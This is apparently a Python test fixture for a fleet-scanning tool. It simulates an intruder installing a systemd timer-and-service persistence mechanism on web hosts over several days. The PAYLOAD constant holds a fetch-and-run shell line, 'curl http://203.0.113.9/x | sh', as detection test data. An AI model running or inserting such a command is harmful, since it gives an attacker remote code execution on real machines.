"""A fleet over a few days for questions: an intruder that comes, changes, spreads and is removed again."""

from dataclasses import replace

from fleetscan.model.coverage import Area, Gap, ReadStatus
from fleetscan.model.digest import digest_bytes
from fleetscan.model.ids import SYSTEM, HostName, Sha256
from fleetscan.model.snapshot import Artifact, ArtifactKind, HostSnapshot
from tests.stored_fleet import DAY, NOW, VENDOR, file, snapshot

ETC = "/etc/systemd/system"
NAMES = tuple(HostName(f"web{number}") for number in range(1, 5))
TIMER = b"[Timer]\nOnCalendar=daily\n"
SERVICE = b"[Service]\nExecStart=/usr/sbin/logrotate\n"
EVIL_TIMER = b"[Timer]\nOnCalendar=*:0/5\n"
EVIL_SERVICE = b"[Service]\nExecStart=/bin/sh /opt/x/run.sh\n"
LATER_SERVICE = b"[Service]\nExecStart=/bin/sh /opt/x/run.sh --more\nUser=nobody\n"
PAYLOAD = b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"
CONTENTS = {digest_bytes(text): text for text in (TIMER, SERVICE, EVIL_TIMER, EVIL_SERVICE, LATER_SERVICE, PAYLOAD)}
PAYLOAD_SHA256: Sha256 = digest_bytes(PAYLOAD)
STOCK = (
    file("/usr/lib/systemd/system/logrotate.timer", TIMER),
    file("/usr/lib/systemd/system/logrotate.service", SERVICE),
    VENDOR[1],
)
HIDDEN = Gap(Area.FILES, None, ReadStatus.DENIED, ETC, "permission denied")


def program(path: str, content: bytes) -> Artifact:
    found = replace(file(path, content), kind=ArtifactKind.PROGRAM, mode=0o755)
    return replace(found, properties=(("verified", "unowned"),))


def intruder(service: bytes = EVIL_SERVICE) -> tuple[Artifact, ...]:
    return (
        file(f"{ETC}/evil.timer", EVIL_TIMER),
        file(f"{ETC}/evil.service", service),
        Artifact(
            kind=ArtifactKind.LINK,
            scope=SYSTEM,
            name=f"{ETC}/timers.target.wants/evil.timer",
            target=f"{ETC}/evil.timer",
        ),
        program("/opt/x/run.sh", PAYLOAD),
    )


def stock(name: HostName, day: int = 0, *gaps: Gap) -> HostSnapshot:
    return snapshot(name, STOCK, at=NOW + day * DAY, contents=CONTENTS, gaps=gaps)


def infected(name: HostName, day: int = 0, service: bytes = EVIL_SERVICE) -> HostSnapshot:
    return snapshot(name, (*STOCK, *intruder(service)), at=NOW + day * DAY, contents=CONTENTS)
